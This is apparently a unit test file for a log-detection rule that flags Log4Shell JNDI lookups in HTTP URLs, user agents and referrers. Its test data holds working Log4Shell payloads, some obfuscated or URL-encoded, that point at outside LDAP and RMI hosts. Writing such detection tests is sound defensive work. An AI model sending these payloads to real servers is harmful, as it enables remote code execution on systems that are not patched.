// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal `${` text
import { describe, expect, it } from 'vitest';
import { fired, http } from './test-kit.js';

describe('leuko/http-log4shell', () => {
  it('fires on a JNDI lookup in the URL, user agent or referrer, obfuscated or not', () => {
    expect(
      fired('leuko/http-log4shell', [
        http(0, '192.168.1.3', '/', 401, { ua: '${jndi:ldap://45.155.205.233:12344/Basic/Command}' }),
      ]),
    ).toEqual(['192.168.1.3']);
    expect(
      fired('leuko/http-log4shell', [http(0, 'a', '/', 200, { ref: '${${lower:j}ndi:${lower:l}dap://x.example/a}' })]),
    ).toEqual(['a']);
    expect(
      fired('leuko/http-log4shell', [
        http(
          0,
          'b',
          '/?x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3Armi%3A%2F%2Fx%7D',
          200,
        ),
      ]),
    ).toEqual(['b']);
    expect(
      fired('leuko/http-log4shell', [
        http(0, 'c', '/', 200, { ua: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}' }),
      ]),
    ).toEqual(['c']);
  });
  it('ignores template-looking but harmless text', () => {
    expect(
      fired('leuko/http-log4shell', [
        http(0, 'd', '/?tpl=${name}', 200),
        http(1, 'd', '/', 200, { ua: 'curl/8.0 ${HOME}' }),
      ]),
    ).toEqual([]);
  });
});
